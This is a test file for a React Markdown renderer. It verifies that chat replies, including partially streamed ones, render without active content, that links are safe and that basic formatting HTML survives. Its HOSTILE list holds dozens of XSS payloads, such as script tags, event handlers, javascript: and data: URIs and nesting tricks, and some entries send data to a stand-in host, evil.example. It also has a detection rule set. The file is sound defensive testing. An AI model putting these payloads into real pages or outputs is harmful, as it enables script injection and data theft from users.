// @vitest-environment jsdom
import { flushSync } from 'react-dom';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../markdown/Markdown.tsx';
import { mount } from './mount.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java&#x09;script:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<video src=x onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/steal?words=secret)',
  '<img src="https://evil.example/steal" srcset="https://evil.example/2x 2x">',
  '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
  '$$\\href{javascript:alert(1)}{x}$$',
  '```html"><img src=x onerror=alert(1)>\nx\n```',
  '[x](https://a.example "onmouseover=alert(1) ")',
  '| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |',
  '# <a id="__proto__" name="location" href="javascript:alert(1)">x</a>',
];
const ACTIVE = 'script,style,iframe,object,embed,form,link,meta,base,math,video,audio,source,img,template,noscript';
const OURS = 'svg.icon, svg.icon *';

const { place, root } = mount();

function drawn(text: string, isLive = false): Element {
  flushSync(() => root.render(<Markdown text={text} isLive={isLive} />));
  return place;
}

/** What in *tree* could act by itself or lead somewhere it must not. */
function harm(tree: Element): string[] {
  const elements = [...tree.querySelectorAll('*')].filter((element) => !element.matches(OURS));
  return elements.filter(isHarmful).map((element) => element.outerHTML);
}

function isHarmful(element: Element): boolean {
  if (element.matches(ACTIVE) || element instanceof SVGElement) return true;
  return [...element.attributes].some(
    ({ name, value }) =>
      /^(?:on|style$|srcset$|src$|action$|formaction$)/.test(name) ||
      (name === 'href' && !/^(?:https?:|mailto:|tel:|#user-content-)/.test(value)),
  );
}

describe('a reply', () => {
  it.each(HOSTILE)('is inert with %s', (text) => {
    expect(harm(drawn(text))).toEqual([]);
    for (let end = 1; end < text.length; end++) expect(harm(drawn(text.slice(0, end), true))).toEqual([]);
  });

  it('has links that open apart and give nothing away', () => {
    const link = drawn('[mill](https://example.org/mill)').querySelector('a');
    expect(link?.outerHTML).toBe(
      '<a href="https://example.org/mill" title="https://example.org/mill" target="_blank" rel="noopener noreferrer nofollow">mill</a>',
    );
  });

  it('keeps the HTML that only says how text is set', () => {
    const tree = drawn('a<br>b H<sub>2</sub>O\n\n<details><summary>more</summary>text</details>');
    expect(tree.querySelector('br')).not.toBeNull();
    expect(tree.querySelector('sub')?.textContent).toBe('2');
    expect(tree.querySelector('details > summary')?.textContent).toBe('more');
  });
});
